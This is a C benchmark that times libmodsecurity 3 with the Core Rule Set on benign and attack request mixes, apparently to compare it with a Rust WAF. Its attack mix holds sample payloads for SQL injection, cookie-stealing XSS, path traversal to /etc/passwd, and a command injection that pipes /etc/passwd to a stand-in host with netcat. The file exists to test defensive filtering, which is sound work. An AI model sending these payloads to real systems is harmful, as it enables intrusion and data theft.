/*
 * The peer of crates/qalxan-waf/benches/crs.rs: libmodsecurity 3 (Debian's libmodsecurity3)
 * evaluating the same requests against the same CRS at the same paranoia level, in process.
 * Built and run by bench/waf-peer.sh; prints microseconds per transaction for each mix.
 * With a mix and a number of rounds (bench/waf-instructions.sh) it runs only that mix, inside
 * measured_loop, for callgrind to count the instructions of.
 */
#include <modsecurity/modsecurity.h>
#include <modsecurity/rules_set.h>
#include <modsecurity/transaction.h>
#include <modsecurity/intervention.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

struct req { const char *method, *uri, *body; };

static const struct req benign[] = {
    {"GET", "/", ""},
    {"GET", "/news/2026/11/budget-hearing.html?page=2&sort=date", ""},
    {"GET", "/static/css/site.min.css?v=4.2.1", ""},
    {"POST", "/search", "q=public+procurement+rules&year=2026&lang=en"},
};
static const struct req attacks[] = {
    {"GET", "/item.php?id=1%27%20OR%20%271%27%3D%271", ""},
    {"GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", ""},
    {"GET", "/download.php?file=..%2F..%2F..%2Fetc%2Fpasswd", ""},
    {"POST", "/contact", "name=x&msg=%3Bcat+%2Fetc%2Fpasswd%7Cnc+198.51.100.1+4444"},
};
static const struct req one_get[] = {
    {"GET", "/news/2026/11/budget-hearing.html?page=2&sort=date", ""},
};

static int run(ModSecurity *ms, RulesSet *rules, const struct req *r) {
    Transaction *t = msc_new_transaction(ms, rules, NULL);
    msc_process_connection(t, "198.51.100.7", 51234, "192.0.2.10", 443);
    msc_process_uri(t, r->uri, r->method, "1.1");
    msc_add_request_header(t, (const unsigned char *)"Host", (const unsigned char *)"www.example.gov");
    msc_add_request_header(t, (const unsigned char *)"User-Agent", (const unsigned char *)"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
    msc_add_request_header(t, (const unsigned char *)"Accept", (const unsigned char *)"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
    msc_add_request_header(t, (const unsigned char *)"Accept-Language", (const unsigned char *)"en-US,en;q=0.5");
    msc_add_request_header(t, (const unsigned char *)"Accept-Encoding", (const unsigned char *)"gzip, deflate, br");
    msc_add_request_header(t, (const unsigned char *)"Cookie", (const unsigned char *)"session=8f14e45fceea167a5a36dedd4bea2543; lang=en");
    msc_add_request_header(t, (const unsigned char *)"Connection", (const unsigned char *)"keep-alive");
    size_t blen = strlen(r->body);
    if (blen) {
        char len[32];
        snprintf(len, sizeof len, "%zu", blen);
        msc_add_request_header(t, (const unsigned char *)"Content-Type", (const unsigned char *)"application/x-www-form-urlencoded");
        msc_add_request_header(t, (const unsigned char *)"Content-Length", (const unsigned char *)len);
    }
    msc_process_request_headers(t);
    if (blen) msc_append_request_body(t, (const unsigned char *)r->body, blen);
    msc_process_request_body(t);
    msc_process_logging(t);
    ModSecurityIntervention it = {0};
    int blocked = msc_intervention(t, &it);
    if (it.log) free(it.log);
    if (it.url) free(it.url);
    msc_transaction_cleanup(t);
    return blocked;
}

static double bench(ModSecurity *ms, RulesSet *rules, const struct req *mix, int n, int rounds) {
    struct timespec a, b;
    for (int i = 0; i < n; i++) run(ms, rules, &mix[i]); /* warm up */
    clock_gettime(CLOCK_MONOTONIC, &a);
    for (int k = 0; k < rounds; k++)
        for (int i = 0; i < n; i++) run(ms, rules, &mix[i]);
    clock_gettime(CLOCK_MONOTONIC, &b);
    double us = (b.tv_sec - a.tv_sec) * 1e6 + (b.tv_nsec - a.tv_nsec) / 1e3;
    return us / (rounds * n);
}

__attribute__((noinline)) void measured_loop(ModSecurity *ms, RulesSet *rules, const struct req *mix, int n, int rounds) {
    for (int k = 0; k < rounds; k++)
        for (int i = 0; i < n; i++) run(ms, rules, &mix[i]);
}

/* Log lines would go to stderr and be timed; a server keeps them, here they are dropped. */
static void drop_log(void *data, const void *msg) { (void)data; (void)msg; }

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: %s RULES.conf LABEL [get|benign|attack ROUNDS]\n", argv[0]); return 2; }
    ModSecurity *ms = msc_init();
    msc_set_log_cb(ms, drop_log);
    RulesSet *rules = msc_create_rules_set();
    const char *error = NULL;
    if (msc_rules_add_file(rules, argv[1], &error) < 0) {
        fprintf(stderr, "rules: %s\n", error ? error : "?");
        return 1;
    }
    if (argc == 5) {
        const struct req *mix = strcmp(argv[3], "get") == 0 ? one_get
            : strcmp(argv[3], "benign") == 0 ? benign : attacks;
        int n = mix == one_get ? 1 : 4;
        for (int i = 0; i < n; i++) run(ms, rules, &mix[i]); /* regex caches, outside the count */
        measured_loop(ms, rules, mix, n, atoi(argv[4]));
        return 0;
    }
    int rounds = 200;
    printf("%s benign mix: %.1f us/transaction\n", argv[2], bench(ms, rules, benign, 4, rounds));
    printf("%s attack mix: %.1f us/transaction\n", argv[2], bench(ms, rules, attacks, 4, rounds));
    printf("%s benign GET: %.1f us/transaction\n", argv[2], bench(ms, rules, one_get, 1, rounds * 4));
    msc_rules_cleanup(rules);
    msc_cleanup(ms);
    return 0;
}
